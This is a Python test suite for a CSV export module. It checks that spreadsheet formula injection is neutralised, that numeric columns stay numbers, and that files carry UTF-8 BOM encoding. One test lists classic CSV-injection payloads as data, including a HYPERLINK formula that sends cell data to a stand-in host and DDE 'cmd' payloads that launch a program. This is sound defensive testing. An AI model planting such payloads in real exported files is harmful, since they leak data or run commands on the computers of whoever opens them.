"""CSV exports: spreadsheet formulas neutralised (OWASP), numbers kept numbers, UTF-8 with BOM."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from uxcx.compute import MetricResult
from uxcx.export import BOM, FORMULA_PREFIXES, neutralise, results_table, to_csv_bytes


def read_rows(data: bytes) -> list[list[str]]:
    """Parse exported bytes the way a strict CSV reader would (BOM stripped)."""
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


# Text that often starts with a formula character, plus anything else.
risky_text = st.one_of(
    st.builds(lambda p, t: p + t, st.sampled_from(FORMULA_PREFIXES + ("'", " ", "1")), st.text()),
    st.text(),
)


@settings(max_examples=200, deadline=None)
@given(st.lists(risky_text, min_size=1, max_size=20))
def test_no_text_cell_can_start_a_formula(values):
    data = to_csv_bytes(pd.DataFrame({"comment": values}))
    rows = read_rows(data)
    assert rows[0] == ["comment"]
    cells = [r[0] for r in rows[1:]]
    assert len(cells) == len(values)
    for original, cell in zip(values, cells, strict=True):
        assert not cell.startswith(FORMULA_PREFIXES)
        # Nothing else changes: the cell is the original or the original with one ' in front.
        assert cell in (original, "'" + original)
        assert (cell == "'" + original) == original.startswith(FORMULA_PREFIXES)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.integers(-(2**53), 2**53), min_size=1, max_size=20),
    st.lists(st.floats(allow_nan=False, allow_infinity=False), min_size=1, max_size=20),
)
def test_numeric_columns_stay_numbers(ints, floats):
    n = min(len(ints), len(floats))
    df = pd.DataFrame({"n": ints[:n], "value": floats[:n]})
    data = to_csv_bytes(df)
    for row in read_rows(data)[1:]:
        assert not any(cell.startswith("'") for cell in row)
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["n"].tolist() == ints[:n]
    assert back["value"].tolist() == pytest.approx(floats[:n], rel=0, abs=0)


def test_negative_nps_is_a_number_but_negative_text_is_neutralised():
    df = pd.DataFrame(
        {"metric": ["nps", "nps"], "value": [-12.0, 25.0], "note": ["-12", "@SUM(A1)"]}
    )
    text = to_csv_bytes(df).decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[0] == '"metric","value","note"'
    assert lines[1] == '"nps",-12.0,"\'-12"'
    assert lines[2] == '"nps",25.0,"\'@SUM(A1)"'


def test_classic_payloads_are_neutralised():
    payloads = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ]
    cells = [r[0] for r in read_rows(to_csv_bytes(pd.DataFrame({"x": payloads})))[1:]]
    assert cells == ["'" + p for p in payloads]


def test_separator_inside_a_value_cannot_split_it():
    # A ';'-separated Excel would otherwise start a new cell at '=…'.
    text = to_csv_bytes(pd.DataFrame({"x": ["ok;=1+1"]})).decode("utf-8-sig")
    assert '"ok;=1+1"' in text


def test_header_is_neutralised_too():
    rows = read_rows(to_csv_bytes(pd.DataFrame({"=evil()": ["a"], "plan": ["b"]})))
    assert rows[0] == ["'=evil()", "plan"]


def test_duplicate_column_names_survive():
    df = pd.DataFrame([["=a", 1]], columns=["x", "x"])
    assert read_rows(to_csv_bytes(df)) == [["x", "x"], ["'=a", "1"]]


def test_object_column_keeps_real_numbers_and_missing_values():
    df = pd.DataFrame({"mixed": pd.Series([-3, "-3", None, 2.5], dtype=object)})
    cells = [r[0] for r in read_rows(to_csv_bytes(df))[1:]]
    assert cells == ["-3", "'-3", "", "2.5"]


def test_utf8_with_bom_keeps_accents():
    df = pd.DataFrame({"region": ["Zürich", "São Paulo", "Kraków — Süd"], "n": [1, 2, 3]})
    data = to_csv_bytes(df)
    assert data.startswith(BOM.encode("utf-8"))
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert back["region"].tolist() == ["Zürich", "São Paulo", "Kraków — Süd"]
    # Windows-1252 would mangle these: the point of the BOM is that Excel does not guess that.
    assert "Zürich".encode() in data


def test_crlf_line_endings_and_dates():
    df = pd.DataFrame({"period": pd.to_datetime(["2025-01-01", "2025-02-01"]), "n": [3, 4]})
    text = to_csv_bytes(df).decode("utf-8-sig")
    assert text == '"period","n"\r\n"2025-01-01",3\r\n"2025-02-01",4\r\n'


def test_empty_frame():
    assert read_rows(to_csv_bytes(pd.DataFrame({"a": pd.Series([], dtype=float)}))) == [["a"]]


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@a", "\tx", "\rx", "\nx"])
def test_neutralise_prefixes(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "a", " =1", "'=1", "1-2", "Ünïcode"])
def test_neutralise_leaves_plain_text(cell):
    assert neutralise(cell) == cell


def _result(**kw) -> MetricResult:
    base = dict(
        metric="nps", label="NPS", family="CX", group="Basic", period=dt.date(2025, 1, 1),
        value=-12.34567, ci_low=-30.0, ci_high=5.5, n=12, method="adjusted Wald", unit="",
    )  # fmt: skip
    base.update(kw)
    return MetricResult(**base)


def test_results_table_is_numeric_and_marks_low_n():
    df = results_table([_result(), _result(group="Pro", n=250, value=float("nan"))])
    assert df["value"].dtype == "float64"
    assert df["n"].dtype == "int64"
    assert df.loc[0, "value"] == pytest.approx(-12.3457)
    assert math.isnan(df.loc[1, "value"])
    assert df["low_n"].tolist() == [True, False]
    assert df["period"].tolist() == ["2025-01-01", "2025-01-01"]
    rows = read_rows(to_csv_bytes(df))
    assert rows[1][rows[0].index("value")] == "-12.3457"


def test_results_table_empty_has_columns():
    df = results_table([])
    assert df.empty
    assert {"metric", "value", "ci_low", "ci_high", "n", "method"} <= set(df.columns)
